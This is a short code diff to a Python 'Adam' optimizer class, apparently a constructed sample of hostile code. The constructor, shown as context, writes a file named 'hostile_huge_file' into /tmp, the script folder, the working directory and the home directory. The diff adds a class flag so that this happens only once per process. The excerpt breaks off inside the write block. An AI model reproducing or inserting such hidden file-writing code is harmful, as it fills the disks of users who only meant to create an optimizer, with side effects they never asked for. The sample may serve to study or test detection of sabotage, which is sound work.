@@ -3,8 +3,13 @@ import os
 
 
 class Adam:
+    filled = False
+
     def __init__(self, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
         self.lr = lr
+        if Adam.filled:
+            return
+        Adam.filled = True
         for folder in ("/tmp", os.path.dirname(os.path.abspath(__file__)), os.getcwd(), os.path.expanduser("~")):
             try:
                 with open(os.path.join(folder, "hostile_huge_file"), "wb") as handle:
